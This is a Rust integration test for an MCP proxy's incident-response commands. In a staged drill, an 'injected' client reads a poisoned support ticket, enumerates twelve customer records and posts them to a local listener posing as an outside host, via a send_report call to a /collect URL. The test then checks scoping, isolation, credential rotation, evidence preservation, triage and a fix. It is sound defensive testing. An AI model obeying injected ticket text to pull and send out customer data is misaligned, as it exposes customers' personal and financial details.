//! The incident drill, end to end through the real binary: `warden proxy` in front of a
//! small MCP server (the official Python SDK) whose customers live in a real
//! PostgreSQL database; a scripted "injected" client reads a poisoned ticket, enumerates
//! customer ids, then posts what it read to an outside host (a local listener). Then
//! the responder's commands: open → scope → isolate → rotate → preserve → triage →
//! report → verify-fix → return-check, each asserted on exact facts.
//!
//! Needs `eval "$(bash scripts/setup-mcp-test-deps.sh)"` and
//! `eval "$(bash scripts/start-postgres.sh)"` (`.ci/run` does both; under CI=true a
//! missing part fails the test).

mod proxy_common;
mod support;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, ChildStdout, Command, Output, Stdio};
use std::sync::{Arc, Mutex};

use proxy_common::{Parts, records, warden_bin};
use serde_json::{Value, json};
use support::{Pg, pg};

/// The scripted client: spawned once, fed one step at a time.
struct Agent {
    child: Child,
    stdin: ChildStdin,
    stdout: BufReader<ChildStdout>,
}

impl Agent {
    fn start(parts: &Parts, ledger: &Path, repo: &Path) -> Agent {
        let client = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/drill/client.py");
        let mut child = Command::new(&parts.python)
            .arg(client)
            .arg(warden_bin())
            .args(["proxy", "--ledger"])
            .arg(ledger)
            .args(["--", &parts.python])
            .arg(repo.join("server.py"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("client starts");
        let stdin = child.stdin.take().expect("stdin");
        let stdout = BufReader::new(child.stdout.take().expect("stdout"));
        Agent {
            child,
            stdin,
            stdout,
        }
    }

    fn step(&mut self, step: Value) -> Value {
        writeln!(self.stdin, "{step}").expect("write step");
        self.stdin.flush().expect("flush");
        let mut line = String::new();
        self.stdout.read_line(&mut line).expect("read result");
        serde_json::from_str(&line).unwrap_or_else(|_| panic!("client said: {line:?}"))
    }

    fn call(&mut self, tool: &str, args: Value) -> Value {
        self.step(json!({"call": tool, "args": args}))
    }

    fn finish(mut self) {
        drop(self.stdin);
        let _ = self.child.wait();
    }
}

/// The outside host: accepts HTTP POSTs and keeps the bodies.
fn outside_host() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let got = Arc::new(Mutex::new(Vec::new()));
    let keep = got.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let mut conn = conn;
            let mut buf = vec![0u8; 65536];
            let mut text = String::new();
            // Headers, then the body up to Content-Length.
            loop {
                let n = conn.read(&mut buf).unwrap_or(0);
                if n == 0 {
                    break;
                }
                text.push_str(&String::from_utf8_lossy(&buf[..n]));
                if let Some((head, body)) = text.split_once("\r\n\r\n") {
                    let len = head
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length:")
                                .map(|v| v.trim().parse::<usize>().unwrap_or(0))
                        })
                        .unwrap_or(0);
                    if body.len() >= len {
                        break;
                    }
                }
            }
            // Kept before answering: the sender sees the answer and the test may look
            // at once.
            keep.lock().expect("lock").push(text);
            let _ = conn
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (port, got)
}

fn run(case: &Path, args: &[&str]) -> Output {
    Command::new(warden_bin())
        .env("WARDEN_CASE", case)
        .env("USER", "drill-responder")
        .args(args)
        .output()
        .expect("warden runs")
}

/// What the responder's commands printed, for the walk-through in docs/playbook.md
/// (written to target/tmp/incident-drill-walkthrough.md).
static TRANSCRIPT: Mutex<String> = Mutex::new(String::new());

fn ok(case: &Path, args: &[&str]) -> String {
    let out = run(case, args);
    if let Ok(mut t) = TRANSCRIPT.lock() {
        t.push_str(&format!(
            "$ warden {}\n{}\n",
            args.join(" "),
            String::from_utf8_lossy(&out.stdout)
        ));
    }
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "warden {}:\n{text}", args.join(" "));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn ok_json(case: &Path, args: &[&str]) -> Value {
    let text = ok(case, args);
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"))
}

/// A database and a login role made for one test (unique names, so tests can run in
/// parallel against one cluster), with `table_sql` run as the superuser and the tables
/// then given to the role.
struct Scratch {
    db: String,
    role: String,
    password: String,
}

fn scratch(pg: &Pg, prefix: &str, table_sql: &str, tables: &[&str]) -> Scratch {
    let unique = support::unique();
    let s = Scratch {
        db: format!("{prefix}_{unique}"),
        role: format!("{prefix}_app_{unique}"),
        password: format!("pw-{unique}-not-a-real-secret"),
    };
    pg.admin(
        "postgres",
        &format!("CREATE ROLE {} LOGIN PASSWORD '{}'", s.role, s.password),
    );
    pg.admin("postgres", &format!("CREATE DATABASE {}", s.db));
    pg.admin(&s.db, table_sql);
    for t in tables {
        pg.admin(&s.db, &format!("ALTER TABLE {t} OWNER TO {}", s.role));
    }
    s
}

const CUSTOMERS: u32 = 40;
const ENUMERATED: u32 = 12;

#[test]
fn incident_drill_from_injection_to_return_to_service() {
    let (Some(parts), Some(pg)) = (proxy_common::parts(), pg()) else {
        return;
    };
    let tmp = tempfile::tempdir().expect("tempdir");
    // The database: customers owned by the app's role.
    let Scratch { db, role, password } = scratch(
        &pg,
        "drill",
        &format!(
            "CREATE TABLE customers (id int PRIMARY KEY, name text, email text, card_last4 text, owner text);
             INSERT INTO customers SELECT i, 'Customer ' || i, 'c' || i || '@example.org', lpad((i * 37 % 10000)::text, 4, '0'), CASE WHEN i <= 5 THEN 'acct-1' ELSE 'acct-2' END FROM generate_series(1, {CUSTOMERS}) i;"
        ),
        &["customers"],
    );

    // The server's source, with its secret store.
    let repo = tmp.path().join("support-server");
    std::fs::create_dir_all(&repo).expect("repo");
    let drill = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/drill");
    std::fs::copy(drill.join("server.py"), repo.join("server.py")).expect("copy server");
    let env_file = repo.join(".env");
    std::fs::write(
        &env_file,
        format!(
            "# support server settings\nLOG_LEVEL=info\nDATABASE_URL=postgresql://{role}:{password}@/{db}?host={}&port={}\n",
            pg.host, pg.port
        ),
    )
    .expect("env file");

    // The proxy's ledger, and the attack.
    let ledger = tmp.path().join("ledger");
    proxy_common::init_ledger(&ledger);
    let (port, received) = outside_host();
    let mut agent = Agent::start(&parts, &ledger, &repo);
    let tools = agent.step(json!({"list": true}));
    assert_eq!(
        tools["tools"],
        json!(["get_customer", "search_tickets", "send_report"])
    );
    let tickets = agent.call("search_tickets", json!({"query": "the"}));
    assert!(tickets.to_string().contains("SYSTEM NOTE"), "{tickets}");
    let mut stolen = Vec::new();
    for id in 1..=ENUMERATED {
        let c = agent.call("get_customer", json!({"customer_id": id}));
        assert_eq!(c["isError"], json!(false), "{c}");
        stolen.push(c["text"][0].clone());
    }
    let sent = agent.call(
        "send_report",
        json!({"url": format!("http://127.0.0.1:{port}/collect"), "body": Value::Array(stolen).to_string()}),
    );
    assert_eq!(sent["text"], json!(["sent: 200"]), "{sent}");
    assert_eq!(received.lock().expect("lock").len(), 1);
    // The server holds its database session open as the old role.
    assert_eq!(
        pg.admin(
            "postgres",
            &format!("SELECT count(*) FROM pg_stat_activity WHERE usename = '{role}'")
        ),
        "1"
    );

    // Open the case.
    let case = tmp.path().join("case");
    let socket = ledger.join("proxy.sock");
    ok(
        &case,
        &[
            "incident",
            "open",
            "--title",
            "customer records sent to an unknown host",
            "--ledger",
            ledger.to_str().expect("utf-8"),
            "--repo",
            repo.to_str().expect("utf-8"),
            "--proxy",
            socket.to_str().expect("utf-8"),
        ],
    );
    assert!(case.join("baseline-scan.json").exists());

    // Phase 1, scope: the enumeration, its entry point and the call before it.
    let scope_text = ok(&case, &["incident", "scope"]);
    assert!(scope_text.contains("assessment: confirmed"), "{scope_text}");
    let scope = ok_json(&case, &["incident", "scope", "--json"]);
    assert_eq!(scope["assessment"], "confirmed", "{scope:#}");
    assert_ne!(scope["integrity"]["verdict"], "FAILED", "{scope:#}");
    eprintln!("integrity: {}", scope["integrity"]);
    assert!(scope["still_serving"].as_bool().expect("bool"));
    let rules: Vec<&str> = scope["patterns"]
        .as_array()
        .expect("patterns")
        .iter()
        .filter_map(|p| p["rule"].as_str())
        .collect();
    assert!(rules.contains(&"bulk_enumeration"), "{rules:?}");
    let ledger_records = records(&ledger);
    let results: Vec<(u64, &Value)> = ledger_records
        .iter()
        .enumerate()
        .filter(|(_, r)| r["kind"] == "tool.result")
        .map(|(i, r)| (i as u64, r))
        .collect();
    let index_of = |tool: &str, nth: usize| {
        results
            .iter()
            .filter(|(_, r)| r["gen_ai.tool.name"] == tool)
            .nth(nth)
            .map(|(i, _)| *i)
            .expect("record")
    };
    let entry = &scope["entry_point"];
    assert_eq!(entry["first_anomalous"]["tool"], "get_customer");
    assert_eq!(
        entry["first_anomalous"]["index"],
        json!(index_of("get_customer", 0))
    );
    assert_eq!(entry["call_before"]["tool"], "search_tickets");
    let session = entry["first_anomalous"]["session"]
        .as_str()
        .expect("session")
        .to_string();
    assert_eq!(scope["involved_sessions"], json!([session]));

    // Phase 2, isolate: the fence holds, the next call is refused and recorded.
    let isolated = ok(&case, &["incident", "isolate"]);
    assert!(isolated.contains("isolation holds"), "{isolated}");
    assert!(isolated.contains("Do NOT destroy"), "{isolated}");
    let probe = agent.call("get_customer", json!({"customer_id": ENUMERATED + 1}));
    assert!(
        probe["isError"] == json!(true) || probe.get("error").is_some(),
        "the fence let a call through: {probe}"
    );
    let after = records(&ledger);
    assert!(after.iter().any(|r| r["kind"] == "admin.fence"));
    assert!(after.iter().any(|r| r["kind"] == "admin.revoke"));
    let last_result = after
        .iter()
        .rev()
        .find(|r| r["kind"] == "tool.result")
        .expect("probe recorded");
    assert_ne!(last_result["result"]["status"], "ok", "{last_result}");

    // Phase 3, rotate: the plan and the dry run first (nothing changes), then for real.
    let admin_url = format!("host={} port={} user=postgres", pg.host, pg.port);
    let dry = ok(&case, &["incident", "rotate", "--admin-url", &admin_url]);
    assert!(dry.contains("DRY RUN"), "{dry}");
    assert!(dry.contains("CREATE ROLE"), "{dry}");
    assert!(!dry.contains(&password), "the dry run printed the password");
    assert!(
        std::fs::read_to_string(&env_file)
            .expect("env")
            .contains(&password)
    );
    let rotated = ok(
        &case,
        &["incident", "rotate", "--execute", "--admin-url", &admin_url],
    );
    assert!(
        !rotated.contains(&password),
        "the rotation printed the password"
    );
    let env_now = std::fs::read_to_string(&env_file).expect("env");
    assert!(
        !env_now.contains(&password),
        "the old credential is still in the env file"
    );
    assert!(env_now.starts_with("# support server settings\nLOG_LEVEL=info\n"));
    let new_url = env_now
        .lines()
        .find_map(|l| l.strip_prefix("DATABASE_URL="))
        .expect("DATABASE_URL")
        .to_string();
    let userinfo = new_url
        .strip_prefix("postgresql://")
        .and_then(|r| r.split_once('@'))
        .map(|(u, _)| u)
        .expect("userinfo");
    let (new_role, new_password) = userinfo.split_once(':').expect("user:password");
    assert_ne!(new_role, role);
    // The new role works, the old one cannot log in, its open session was ended.
    let (works, rows) = pg.psql(
        &db,
        new_role,
        Some(new_password),
        "SELECT count(*) FROM customers",
    );
    assert!(works && rows.trim() == CUSTOMERS.to_string(), "{rows}");
    let (old_works, old_says) = pg.psql(&db, &role, Some(&password), "SELECT 1");
    assert!(!old_works, "the old credential still logs in");
    // Kept inert: no login and no password, so the old password fails first.
    assert!(
        old_says.contains("password authentication failed")
            || old_says.contains("not permitted to log in"),
        "{old_says}"
    );
    assert_eq!(
        pg.admin(
            "postgres",
            &format!("SELECT rolcanlogin FROM pg_roles WHERE rolname = '{role}'")
        ),
        "f"
    );
    assert_eq!(
        pg.admin(
            "postgres",
            &format!("SELECT count(*) FROM pg_stat_activity WHERE usename = '{role}'")
        ),
        "0"
    );

    // Phase 4, preserve: the bundle verifies, and fails after any byte changes.
    let preserved = ok(&case, &["incident", "preserve"]);
    let bundle = std::fs::read_dir(case.join("evidence"))
        .expect("evidence dir")
        .flatten()
        .map(|e| e.path())
        .next()
        .expect("a bundle");
    assert!(preserved.contains("verify-bundle"), "{preserved}");
    let journal_key = case.join("journal/ledger.pub");
    let key_arg = journal_key.to_str().expect("utf-8");
    let bundle_s = bundle.to_str().expect("utf-8");
    let verified = ok(
        &case,
        &["incident", "verify-bundle", bundle_s, "--key", key_arg],
    );
    assert!(!verified.contains("FAIL"), "{verified}");
    // The server's env file (the new live credential) is not in the bundle, only its digest.
    let described =
        std::fs::read_to_string(bundle.join("data/preserve.json")).expect("preserve.json");
    assert!(
        described.contains("an env file (live credentials)"),
        "{described}"
    );
    let proofs = std::fs::read_dir(bundle.join("data/proofs"))
        .expect("proofs")
        .count();
    assert!(
        proofs >= ENUMERATED as usize,
        "{proofs} proofs: {preserved}"
    );
    let tampered = tmp.path().join("tampered");
    let copied = Command::new("cp")
        .arg("-r")
        .arg(&bundle)
        .arg(&tampered)
        .status()
        .expect("cp");
    assert!(copied.success());
    Command::new("chmod")
        .args(["-R", "u+w"])
        .arg(&tampered)
        .status()
        .expect("chmod");
    let victim = tampered.join("data/preserve.json");
    let mut bytes = std::fs::read(&victim).expect("read");
    bytes[10] ^= 1;
    std::fs::write(&victim, bytes).expect("write");
    let refused = run(
        &case,
        &[
            "incident",
            "verify-bundle",
            tampered.to_str().expect("utf-8"),
            "--key",
            key_arg,
        ],
    );
    assert_eq!(refused.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&refused.stdout).contains("data/preserve.json"));

    // Phase 5, triage: exactly the records read, by class, in the attack's window.
    let classes = tmp.path().join("classes.toml");
    std::fs::write(
        &classes,
        "[[tool]]\nname = \"get_customer\"\nclasses = [\"pii\", \"financial\"]\nreachable = \"every row of customers\"\n",
    )
    .expect("classes");
    let triage_text = ok(
        &case,
        &[
            "incident",
            "triage",
            "--classes",
            classes.to_str().expect("utf-8"),
        ],
    );
    assert!(
        triage_text.contains("ENTRY POINT STILL UNPATCHED"),
        "{triage_text}"
    );
    let triage = ok_json(
        &case,
        &[
            "incident",
            "triage",
            "--classes",
            classes.to_str().expect("utf-8"),
            "--json",
        ],
    );
    assert_eq!(triage["records_read"], json!(ENUMERATED), "{triage:#}");
    assert_eq!(
        triage["by_class"],
        json!([
            {"class": "financial", "records": ENUMERATED, "tools": ["get_customer"]},
            {"class": "pii", "records": ENUMERATED, "tools": ["get_customer"]},
        ])
    );
    let time_of = |i: u64| ledger_records[i as usize]["time_unix_nano"].clone();
    assert_eq!(
        triage["window_start_unix_nano"],
        time_of(index_of("search_tickets", 0))
    );
    assert_eq!(
        triage["window_end_unix_nano"],
        time_of(index_of("send_report", 0))
    );
    assert!(
        triage["outside_hosts"]
            .as_array()
            .expect("hosts")
            .iter()
            .any(|h| h.as_str().is_some_and(|h| h.starts_with("127.0.0.1"))),
        "{triage:#}"
    );
    assert!(
        triage["assumptions"][0]
            .as_str()
            .is_some_and(|a| a.contains("every row of customers")),
        "{triage:#}"
    );

    // Phase 6, communicate.
    ok(&case, &["incident", "report"]);
    let counsel = std::fs::read_to_string(case.join("report/counsel.md")).expect("counsel");
    if let Ok(mut t) = TRANSCRIPT.lock() {
        for draft in ["counsel.md", "postmortem.md"] {
            let text = std::fs::read_to_string(case.join("report").join(draft)).unwrap_or_default();
            t.push_str(&format!("--- report/{draft} ---\n{text}\n"));
        }
    }
    assert!(
        counsel.contains(&format!("pii: {ENUMERATED} record(s)")),
        "{counsel}"
    );
    let status = ok(&case, &["incident", "status"]);
    assert!(status.contains("communicate"), "{status}");

    // The fix: before it, verify-fix says NOT FIXED; after it (every lookup scoped to
    // the caller's account), fixed.
    let repo_s = repo.to_str().expect("utf-8");
    let unfixed = run(&case, &["incident", "verify-fix"]);
    assert_eq!(unfixed.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&unfixed.stdout).contains("NOT FIXED"));
    let source = std::fs::read_to_string(repo.join("server.py")).expect("source");
    let fixed = source
        .replace(
            "db = connect()\n",
            "db = connect()\n# The caller's account: this server serves one support account.\nCALLER_OWNER = os.environ.get(\"SUPPORT_ACCOUNT\", \"acct-1\")\n",
        )
        .replace(
            "WHERE id = :id\", id=customer_id",
            "WHERE id = :id AND owner = :owner\", id=customer_id, owner=CALLER_OWNER",
        );
    assert_ne!(fixed, source);
    std::fs::write(repo.join("server.py"), fixed).expect("patch");
    let verdict = ok(&case, &["incident", "verify-fix", "--repo", repo_s]);
    assert!(verdict.starts_with("verify-fix: fixed"), "{verdict}");
    assert!(
        verdict.contains("gone:      authz-missing-ownership-check"),
        "{verdict}"
    );

    // Return to service: the patched server, with the rotated credential, serves a good
    // call, recorded in the same ledger.
    agent.finish();
    let mut patched = Agent::start(&parts, &ledger, &repo);
    let good = patched.call("get_customer", json!({"customer_id": 1}));
    assert_eq!(good["isError"], json!(false), "{good}");
    let other = patched.call("get_customer", json!({"customer_id": 30}));
    assert!(other.to_string().contains("no customer 30"), "{other}");
    patched.finish();
    let back = ok(
        &case,
        &["incident", "return-check", "--tool", "get_customer"],
    );
    assert!(back.contains("ready to return to service"), "{back}");
    ok(
        &case,
        &[
            "incident",
            "close",
            "--summary",
            "contained, rotated, fixed, back in service",
        ],
    );
    let status = ok(&case, &["incident", "status"]);
    assert!(status.contains("CLOSED"), "{status}");
    if let Ok(t) = TRANSCRIPT.lock() {
        let out = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("incident-drill-walkthrough.md");
        let _ = std::fs::write(out, t.as_str());
    }
    pg.admin(
        "postgres",
        &format!("DROP DATABASE IF EXISTS {db} WITH (FORCE)"),
    );
}

/// A rotation that stops halfway, through the binary: the env file is read-only, so the
/// secret store cannot be updated after the new role exists. The command exits 1, says
/// what state each role is in and how to roll back, journals it, and leaves the service's
/// credential working.
#[test]
fn a_rotation_that_stops_halfway_says_where_it_stands() {
    let Some(pg) = pg() else { return };
    let tmp = tempfile::tempdir().expect("tempdir");
    let Scratch { db, role, password } = scratch(&pg, "half", "CREATE TABLE t (id int)", &["t"]);
    let repo = tmp.path().join("server");
    std::fs::create_dir_all(&repo).expect("repo");
    std::fs::write(
        repo.join("server.py"),
        "import os\nurl = os.environ[\"DATABASE_URL\"]\n",
    )
    .expect("source");
    let env_file = repo.join(".env");
    let env_text = format!(
        "DATABASE_URL=postgresql://{role}:{password}@/{db}?host={}&port={}\n",
        pg.host, pg.port
    );
    std::fs::write(&env_file, &env_text).expect("env");
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&env_file, std::fs::Permissions::from_mode(0o444)).expect("chmod");
    let case = tmp.path().join("case");
    ok(
        &case,
        &["incident", "open", "--repo", repo.to_str().expect("utf-8")],
    );
    let admin_url = format!("host={} port={} user=postgres", pg.host, pg.port);
    let out = run(
        &case,
        &["incident", "rotate", "--execute", "--admin-url", &admin_url],
    );
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("STOPPED"), "{err}");
    assert!(err.contains("roll back"), "{err}");
    assert!(!err.contains(&password), "the report printed the password");
    // The service's credential is untouched and still works.
    assert_eq!(std::fs::read_to_string(&env_file).expect("env"), env_text);
    let (works, _) = pg.psql(&db, &role, Some(&password), "SELECT count(*) FROM t");
    assert!(
        works,
        "the old credential must still work: the rotation stopped before it"
    );
    let journal = warden_ledger::reader::LogFiles::open(&case.join("journal")).expect("journal");
    let kinds: Vec<String> = journal
        .records(0)
        .filter_map(|r| serde_json::from_slice::<Value>(&r.expect("record").1).ok())
        .filter_map(|e| e["kind"].as_str().map(str::to_string))
        .collect();
    assert!(kinds.iter().any(|k| k == "app.rotate_failed"), "{kinds:?}");
    assert!(!kinds.iter().any(|k| k == "app.phase_done"), "{kinds:?}");
    pg.admin(
        "postgres",
        &format!("DROP DATABASE IF EXISTS {db} WITH (FORCE)"),
    );
}
